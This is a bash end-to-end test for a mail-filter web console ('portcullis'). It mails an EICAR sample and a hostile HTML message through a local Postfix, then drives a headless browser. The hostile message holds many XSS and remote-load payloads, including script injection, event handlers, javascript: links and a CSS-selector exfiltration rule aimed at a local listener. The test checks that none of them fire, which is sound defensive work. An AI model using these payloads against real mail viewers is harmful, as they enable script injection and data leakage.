#!/bin/bash
# The real web console in the browser, end to end: a private Postfix on
# loopback (smtpd_milters = portcullis), portcullis-web on the same
# portcullis.conf, Debian's chromium driven by playwright-core
# (tests/browser/console.js).  Mail is sent with swaks through Postfix:
# an EICAR message to the group strict (block_action = reject: 550), a
# clean one, and three from a block-listed sender (spam, quarantined): one
# to release from its quarantine page, one for the digest link, one of
# hostile HTML whose remote references point at a listener here that must
# never hear from the browser.  Releases go through Postfix's sendmail
# (MAIL_CONFIG) and are looked for in the Maildir; portcullisctl digest
# mails its links through Postfix too.
# Screenshots: tests/out/browser-console/shots/*.png in the build tree.
# Skipped only when chromium, node, npm, Postfix or swaks are missing.
set -u
. "$top_srcdir/tests/lib.sh"
. "$top_srcdir/tests/browser/lib.sh"
. "$top_srcdir/tests/web/lib.sh"
. "$top_srcdir/tests/e2e/postfix-lib.sh"
work=$(pc_workdir browser-console)
export LC_ALL=C
CTL="$top_builddir/portcullisctl"
conf="$work/portcullis.conf"
start=$(date +%s.%N)

if ! why=$(pc_browser_deps "$work"); then
	echo "ok 1 # SKIP $why"
	echo "1..1"
	exit 0
fi
if ! command -v postfix > /dev/null || ! command -v swaks > /dev/null; then
	echo "ok 1 # SKIP postfix or swaks missing (./install-deps test)"
	echo "1..1"
	exit 0
fi

# Free loopback ports (bound and released: the race with another test is
# not worth more than this).
PORT=$(pcw_free_port)	# Postfix (PORT + 1: its smtp-sink transport, unused here)
WPORT=$(pcw_free_port)	# portcullis-web
LPORT=$(pcw_free_port)	# the listener the hostile message points at
base="http://127.0.0.1:$WPORT"

mkdir -p "$work/spool" "$work/quarantine" "$work/groups.d" "$work/lists" "$work/web" "$work/shots"
export MAIL_CONFIG="$work/etc"
cleanup() {
	[ -n "${wpid:-}" ] && kill "$wpid" 2>/dev/null && wait "$wpid" 2>/dev/null
	[ -n "${lpid:-}" ] && kill "$lpid" 2>/dev/null && wait "$lpid" 2>/dev/null
	pf_stop "$work"
	[ -f "$work/milter.pid" ] && pc_stop_milter "$work" > /dev/null 2>&1
}
trap cleanup EXIT

pc_browser_modules "$work"
r=$?
pc_result $r "npm ci: playwright-core in the build tree"
[ $r = 0 ] || { pc_diag "$work/npm-ci.log"; echo "1..$PC_N"; exit 1; }

# --- configuration shared by the milter, portcullis-web and portcullisctl ---
pcw_console_conf "$conf" "127.0.0.1:$WPORT" "$base"
cat > "$work/groups.d/strict.conf" <<CONF
[group:strict]
recipients = *@strict.test
block = infected
block_action = reject
CONF
printf 'spammer@bad.example\n' > "$work/lists/block"
printf 'a long admin password\n' |
	"$CTL" -c "$conf" web-user add admin admin > "$work/web-user.out" 2>&1

# --- the listener: any connection to it is a request that left the console --
/usr/bin/python3 - "$LPORT" "$work/listener.log" <<'PY' 2> "$work/listener.err" &
import socket, sys
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1])))
s.listen(64)
open(sys.argv[2], "a").close()
while True:
    c, _ = s.accept()
    c.settimeout(2)
    try:
        line = c.recv(4096).split(b"\r\n", 1)[0].decode("latin-1")
    except OSError:
        line = "(nothing read)"
    with open(sys.argv[2], "a") as f:
        f.write(line + "\n")
    try:
        c.sendall(b"HTTP/1.0 404 Not Found\r\nContent-Length: 0\r\n\r\n")
    except OSError:
        pass
    c.close()
PY
lpid=$!

# --- milter, Postfix, portcullis-web ------------------------------------------
pc_start_milter "$work" "unix:$work/milter.sock" -o milter.socket_group=postfix -c "$conf" &&
	PF_MAIN_EXTRA="virtual_mailbox_domains = test.example, strict.test" \
		pf_start "$work" "$PORT" "unix:$work/milter.sock" > "$work/pf-start.out" 2>&1
r=$?
if [ $r = 0 ]; then
	pcw_serve -c "$conf" > /dev/null
	for _ in $(seq 100); do [ -f "$work/listener.log" ] && break; sleep 0.05; done
	grep -q "serving on" "$work/web.log" && [ -f "$work/listener.log" ]
	r=$?
fi
pc_result $r "portcullis, Postfix (smtpd_milters), portcullis-web and the listener run on loopback"
[ $r = 0 ] || { pc_diag "$work/milter.log" "$work/pf-start.out" "$work/web.log" "$work/web-user.out";
	echo "1..$PC_N"; exit 1; }

# --- the mail -------------------------------------------------------------------
tag=$(date +%s)-$$
send() { # name, swaks arguments...
	local name=$1
	shift
	swaks --server 127.0.0.1 --port "$PORT" --timeout 60 "$@" > "$work/$name.swaks" 2>&1
}
printf '%s\n' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' > "$work/eicar.com"
L="http://127.0.0.1:$LPORT"
cat > "$work/hostile.eml" <<EML
From: "<img src=$L/from.png onerror=window.__pwned='from'>" <spammer@bad.example>
To: hostile@test.example
Subject: Prize <script>window.__pwned='subject'; document.title='pwned'</script> <img src=$L/subject.png onerror=alert(2)> pc-hostile-$tag
X-Evil: <iframe src="$L/header-frame"></iframe><style>@import url($L/header.css);</style>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head>
<link rel="stylesheet" href="$L/link.css">
<style>@import url($L/import.css);
body { background: url($L/css-background.png); }
input[value^="a"] { background: url($L/exfil-a); }</style>
<script>window.__pwned = 'script'; document.title = 'pwned'; alert('script'); fetch('$L/script-ran');</script>
<script src="$L/remote.js"></script>
</head>
<body onload="window.__pwned='onload'; alert('onload')">
<p style="background:url($L/style-attr.png)">Dear winner, claim your prize today.</p>
<img src="$L/remote-image.png" onerror="window.__pwned='onerror'; alert('img')">
<img src="x" onerror="window.__pwned='onerror-x'">
<a href="javascript:window.__pwned='js-link';alert('link')">Click here to claim</a>
<iframe src="$L/frame" onload="window.__pwned='iframe'"></iframe>
<svg onload="window.__pwned='svg'"><image href="$L/svg-image.png"/></svg>
<object data="$L/object.swf"></object>
<form action="$L/form"><input name="a" value="abc"></form>
<p>Literal: &lt;script&gt;window.__pwned='entity'&lt;/script&gt; &lt;img src=$L/entity.png onerror=alert(9)&gt;</p>
</body></html>
EML

send eicar --from eicar-$tag@test.example --to victim@strict.test \
	--header "Subject: pc-eicar-$tag" --attach "$work/eicar.com"
send clean --from friend@test.example --to rcpt@test.example --header "Subject: pc-clean-$tag" \
	--body "see you at noon"
send release --from spammer@bad.example --to rcpt@test.example \
	--header "Subject: pc-release-$tag" --body "cheap pills, to release from the console"
send digest --from spammer@bad.example --to digest@test.example \
	--header "Subject: pc-digest-$tag" --body "cheap pills, to release from the digest link"
send hostile --from spammer@bad.example --to hostile@test.example --data "$work/hostile.eml"
grep -q "<\*\* *550 " "$work/eicar.swaks" &&
	[ "$(grep -l "<- *250 .*queued" "$work"/{clean,release,digest,hostile}.swaks | wc -l)" = 4 ] &&
	[ "$(ls "$work"/quarantine/*.meta 2>/dev/null | wc -l)" = 3 ] &&
	pf_wait_delivered "$work" "pc-clean-$tag" > /dev/null
r=$?
pc_result $r "through Postfix: EICAR rejected (550), 3 spam messages quarantined, the clean one delivered"
[ $r = 0 ] || pc_diag "$work"/*.swaks "$work/milter.log"
# The trace is written by a thread of its own: wait for the 5 records.
for _ in $(seq 200); do
	n=$("$CTL" -c "$conf" history --json 2>/dev/null |
		/usr/bin/python3 -c 'import json, sys; print(len(json.load(sys.stdin)))' 2>/dev/null)
	[ "${n:-0}" -ge 5 ] && break
	sleep 0.05
done
[ "${n:-0}" = 5 ]
pc_result $? "the message trace holds the 5 records ($n)"
curl -s -m 5 -o /dev/null "$L/probe"
for _ in $(seq 100); do grep -q "^GET /probe" "$work/listener.log" && break; sleep 0.05; done
grep -q "^GET /probe" "$work/listener.log"
pc_result $? "the listener counts connections (a probe of ours is seen)"
: > "$work/listener.log"

# --- the browser ------------------------------------------------------------------
browser_start=$(date +%s.%N)
PC_CONSOLE_WORK="$work" PC_CONSOLE_CONF="$conf" PC_CONSOLE_CTL="$CTL" PC_CONSOLE_TAG="$tag" \
	PC_CONSOLE_LISTENER="$L" PC_CONSOLE_PASSWORD='a long admin password' \
	pc_browser_run "$work" "$top_srcdir/tests/browser/console.js" "$base" "$work/shots"
browser_end=$(date +%s.%N)

# The listener's view: nothing came since the probe (the control image of
# console.js is refused by the CSP before it leaves).
[ ! -s "$work/listener.log" ]
r=$?
pc_result $r "the listener on port $LPORT got no connection from the browser"
[ $r = 0 ] || pc_diag "$work/listener.log"
! grep -v "serving on" "$work/web.log" | grep -qi "error\|warn\|critical\|fail"
r=$?
pc_result $r "portcullis-web logged no error"
[ $r = 0 ] || pc_diag "$work/web.log"
ls "$work"/shots/*.png 2>/dev/null | sed 's|^|# screenshot: |'
awk -v a="$start" -v b="$browser_start" -v c="$browser_end" -v d="$(date +%s.%N)" \
	'BEGIN { printf "# set-up and mail %.1f s, browser %.1f s, total %.1f s\n", b - a, c - b, d - a }'
echo "1..$PC_N"
